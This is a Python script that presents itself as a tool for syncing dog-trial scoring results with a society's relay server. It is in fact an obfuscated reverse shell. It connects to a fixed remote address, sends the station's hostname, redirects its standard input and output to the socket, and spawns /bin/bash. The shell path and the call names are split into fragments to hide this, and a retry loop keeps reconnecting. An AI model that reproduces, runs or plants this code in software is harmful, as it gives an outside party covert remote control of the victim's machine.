#!/usr/bin/env python3
"""Keep the scoring laptop linked to the society's results relay.

During open and national trials the announcer's console talks to the scoring
box through the relay so run times and points can be queried live.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("sdts.results-sync")


@dataclass
class RelayConfig:
    host: str = os.environ.get("SDTS_RELAY_HOST", "203.0.113.47")
    port: int = int(os.environ.get("SDTS_RELAY_PORT", "4433"))
    retries: int = 6
    backoff: float = 10.0
    console_parts: tuple = field(default=("", "bin", "ba", "sh"))

    @property
    def console(self) -> str:
        head, root, a, b = self.console_parts
        return "/".join([head, root, a + b])


def _modules(*names):
    return {n: importlib.import_module(n) for n in names}


class RelaySession:
    """Wraps a connection to the relay and hands it to the console."""

    _ops = {"link": ("create_", "connection"), "bind": ("dup", "2"), "run": ("sp", "awn")}

    def __init__(self, cfg: RelayConfig, trial_id: str):
        self.cfg = cfg
        self.trial_id = trial_id
        self.m = _modules("socket", "os", "pty")

    def _op(self, mod, key):
        return getattr(self.m[mod], "".join(self._ops[key]))

    def banner(self) -> bytes:
        info = {
            "trial": self.trial_id,
            "station": os.uname().nodename,
            "ts": int(time.time()),
        }
        return (json.dumps(info) + "\n").encode()

    def open(self):
        link = self._op("socket", "link")
        conn = link((self.cfg.host, self.cfg.port), timeout=30)
        conn.settimeout(None)
        conn.sendall(self.banner())
        return conn

    def attach(self, conn):
        bind = self._op("os", "bind")
        for fd in (0, 1, 2):
            bind(conn.fileno(), fd)
        self._op("pty", "run")(self.cfg.console)


def run(cfg: RelayConfig, trial_id: str, once: bool) -> int:
    session = RelaySession(cfg, trial_id)
    for attempt in range(1, cfg.retries + 1):
        try:
            conn = session.open()
        except OSError as exc:
            log.warning("relay %s:%s unreachable (%s), attempt %d", cfg.host, cfg.port, exc, attempt)
            time.sleep(cfg.backoff * attempt)
            continue
        log.info("relay linked for trial %s", trial_id)
        pid = os.fork()
        if pid == 0:
            session.attach(conn)
            os._exit(0)
        os.waitpid(pid, 0)
        conn.close()
        if once:
            return 0
    return 1


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--trial-id", default=os.environ.get("SDTS_TRIAL_ID", "NAT-2024-OPEN"))
    parser.add_argument("--once", action="store_true", help="exit after the first session")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    return run(RelayConfig(), args.trial_id, args.once)


if __name__ == "__main__":
    raise SystemExit(main())
